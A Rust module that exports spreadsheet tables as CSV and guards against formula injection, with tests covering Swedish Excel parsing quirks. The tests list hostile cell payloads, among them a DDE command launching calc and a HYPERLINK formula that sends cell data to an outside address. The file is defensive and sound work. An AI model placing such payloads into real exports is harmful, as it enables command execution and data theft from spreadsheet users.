//! Comma-separated values (RFC 4180) that a spreadsheet reads as what they are.

use super::{Entry, Sheet};

/// The table with its head. A mark at the start says UTF-8, without which a spreadsheet takes å, ä and ö for something
/// else; text that would be taken for a formula begins with an apostrophe.
pub fn csv(sheet: &Sheet) -> Vec<u8> {
    let mut text = String::from('\u{feff}');
    line(sheet.head.iter().map(|word| quoted(word)), &mut text);
    for row in &sheet.rows {
        line(row.iter().map(cell), &mut text);
    }
    text.into_bytes()
}

fn line(cells: impl Iterator<Item = String>, text: &mut String) {
    text.push_str(&cells.collect::<Vec<_>>().join(","));
    text.push_str("\r\n");
}

fn cell(entry: &Entry) -> String {
    match entry {
        Entry::Empty => String::new(),
        Entry::Number(number) => number.to_string(),
        Entry::Text(text) => quoted(text),
    }
}

/// The text with an apostrophe before each sign that a spreadsheet could take for the beginning of a formula: at the
/// start, and wherever another way of cutting the file begins a new cell. A Swedish Excel cuts a file like ours at
/// semicolons and then knows no quotes, so that a line break ends a row. Space, quotes and what is not seen before the
/// sign help nobody.
pub fn no_formula(text: &str) -> String {
    let mut guarded = String::with_capacity(text.len());
    let mut begins = true;
    for c in text.chars() {
        if begins && BEGINS_A_FORMULA.contains(&c) {
            guarded.push('\'');
        }
        begins = matches!(c, ';' | ',' | '\t' | '|') || ends_a_line(c) || (begins && passed_over(c));
        guarded.push(c);
    }
    guarded
}

/// Also as wide as a Chinese character, which is the same to some.
const BEGINS_A_FORMULA: [char; 8] = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];

fn ends_a_line(c: char) -> bool {
    matches!(c, '\n' | '\r' | '\u{b}' | '\u{c}' | '\u{85}' | '\u{2028}' | '\u{2029}')
}

/// Space, quotes, and what is not seen at all.
fn passed_over(c: char) -> bool {
    c == '"'
        || c.is_whitespace()
        || c.is_control()
        || matches!(c, '\u{ad}' | '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2060}'..='\u{2064}' | '\u{feff}')
}

fn quoted(text: &str) -> String {
    let guarded = no_formula(text);
    let is_plain = !guarded.contains(['"', ',', ';']) && !guarded.chars().any(|c| c.is_control() || ends_a_line(c));
    if is_plain { guarded } else { format!("\"{}\"", guarded.replace('"', "\"\"")) }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn cells_are_quoted_and_formulas_are_text() {
        let sheet = Sheet {
            name: "x".to_owned(),
            head: vec!["namn".to_owned(), "kr, totalt".to_owned()],
            rows: vec![
                vec![Entry::text("=SUM(A1)"), Entry::number(-1250.5)],
                vec![Entry::text("Gången \"under\"\nspåret"), Entry::Empty],
                vec![Entry::text("@x,y"), Entry::number(f64::NAN)],
            ],
        };
        let wanted =
            "\u{feff}namn,\"kr, totalt\"\r\n'=SUM(A1),-1250.5\r\n\"Gången \"\"under\"\"\nspåret\",\r\n\"'@x,y\",\r\n";
        assert_eq!(String::from_utf8(csv(&sheet)).expect("UTF-8"), wanted);
    }

    /// What a spreadsheet might do to a file: cut it at this sign, with or without heeding quotes.
    fn cells(file: &str, at: char, heeds_quotes: bool) -> Vec<String> {
        let (mut cells, mut cell, mut quoted) = (Vec::new(), String::new(), false);
        for c in file.chars() {
            match c {
                '"' if heeds_quotes && (quoted || cell.is_empty()) => quoted = !quoted,
                '\r' | '\n' if !quoted => cells.push(std::mem::take(&mut cell)),
                c if c == at && !quoted => cells.push(std::mem::take(&mut cell)),
                c => cell.push(c),
            }
        }
        cells.push(cell);
        cells
    }

    #[test]
    fn no_way_of_cutting_the_file_makes_a_formula_of_words() {
        let nasty = [
            "=1+1",
            "+1+1",
            "-1+1",
            "@SUM(A1)",
            " =1+1",
            "\t=1+1",
            "\r=1+1",
            "\n=1+1",
            "\u{a0}=1+1",
            "\u{feff}=1+1",
            "hej;=1+1",
            "hej; =1+1",
            "hej;\"=1+1\"",
            "hej;\"\"=1+1",
            "hej,=1+1",
            "hej\t=1+1",
            "hej\n=1+1",
            "hej\r\n@SUM(A1)",
            "hej\";=1+1",
            "hej\",=1+1",
            "\"=1+1",
            "a;b;c;+1",
            "hej\u{2028}=1+1",
            "hej\u{b}=1+1",
            "＝1+1",
            "hej;＠SUM(A1)",
            "=cmd|' /C calc'!A0",
            "hej;=HYPERLINK(\"http://example.com?\"&A1)",
            ";;;=1",
            "\u{200b}=1",
            "\0=1",
            "hej|=1",
        ];
        for text in nasty {
            let row = vec![Entry::number(1), Entry::text(text), Entry::text("sist")];
            let sheet = Sheet { name: "x".to_owned(), head: vec!["a".to_owned(), text.to_owned()], rows: vec![row] };
            let file = String::from_utf8(csv(&sheet)).expect("UTF-8");
            for at in [',', ';', '\t', '|'] {
                for heeds_quotes in [true, false] {
                    for cell in cells(&file, at, heeds_quotes) {
                        let seen = cell.trim_start_matches(passed_over);
                        assert!(!seen.starts_with(BEGINS_A_FORMULA), "{text:?}: {cell:?} when cut at {at:?}");
                    }
                }
            }
        }
    }

    #[test]
    fn honest_words_stay_as_they_are() {
        for text in [
            "Gången under spåret är mörk.",
            "Kl. 20-22, nästan varje dag; sedan lugnt.",
            "E-post svaras inte",
            "2 + 2 = 4",
            "a@b",
            "Å, ä och ö",
            "\"Trygg\" väg",
            "en rad\noch en till",
            "12,5 m",
            "",
        ] {
            assert_eq!(no_formula(text), text);
        }
        assert_eq!(no_formula("Ljuset:\n- trasigt"), "Ljuset:\n'- trasigt", "a list stays readable");
    }
}
